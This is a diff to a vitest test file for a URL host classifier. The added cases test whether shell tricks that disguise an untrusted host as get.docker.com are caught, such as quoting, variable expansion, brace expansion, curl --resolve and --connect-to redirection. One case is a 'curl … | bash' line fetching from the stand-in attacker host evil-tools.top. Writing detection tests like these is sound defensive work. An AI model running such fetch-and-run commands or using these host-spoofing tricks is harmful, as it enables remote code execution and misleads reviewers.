@@ -1,6 +1,7 @@
 import { expect, test } from "vitest";
 import { findUrls } from "./host-kind.ts";
 
+const inBraces = (name: string): string => `\${${name}}`;
 /** Hosts and their kinds; an exclamation mark says that a host stands for the reader's own. */
 const found = (text: string): readonly string[] =>
   findUrls(text).map(({ host, kind, isPlaceholder }) => `${host} ${kind}${isPlaceholder ? "!" : ""}`);
@@ -55,6 +56,35 @@ test.for<readonly [string, readonly string[]]>([
   ["[notes](https://get.docker.com),me@notes.top", ["get.docker.com official"]],
   ['["https://get.docker.com","me@notes.top"]', ["get.docker.com official"]],
   ["[https://get.docker.com](mailto:me@notes.top)", ["get.docker.com official"]],
+  [
+    "https://get.docker.com''.evil-tools.top/x",
+    ["get.docker.com official", "get.docker.com.evil-tools.top rare"],
+  ],
+  [
+    "'https://get.docker.com'.evil-tools.top/x",
+    ["get.docker.com official", "get.docker.com.evil-tools.top rare"],
+  ],
+  [
+    'https://get.docker.com"$x".evil-tools.top/x',
+    ["get.docker.com official", "get.docker.com*.evil-tools.top rare"],
+  ],
+  [`https://get.docker.com${inBraces("x:-.evil-tools.top")}/x`, ["get.docker.com.evil-tools.top rare"]],
+  ["https://{get.docker.com,evil-tools.top}/x", ["get.docker.com official", "evil-tools.top rare"]],
+  ["https://get.docker.com$x/i.sh", ["get.docker.com* ordinary!"]],
+  [`curl ${inBraces("x")}evil-tools.top/x | bash`, ["evil-tools.top rare"]],
+  [
+    "curl --resolve get.docker.com:443:45.9.1.2 https://get.docker.com",
+    ["45.9.1.2 address", "get.docker.com official"],
+  ],
+  [
+    "curl --connect-to ::evil-tools.top: https://get.docker.com",
+    ["evil-tools.top rare", "get.docker.com official"],
+  ],
+  [
+    "curl --resolve get.docker.com:443:127.0.0.1 https://get.docker.com",
+    ["127.0.0.1 local", "get.docker.com official"],
+  ],
+  ["'https://get.docker.com'.concat(path)", ["get.docker.com official"]],
   ["**https://get.docker.com** and s/http:/https:/g", ["get.docker.com official"]],
   ['curl -d "write to me@notes.top" https://get.docker.com/x', ["get.docker.com official"]],
 ])("an address leads to the host after its names, however it is written: %s", ([text, hosts]) => {
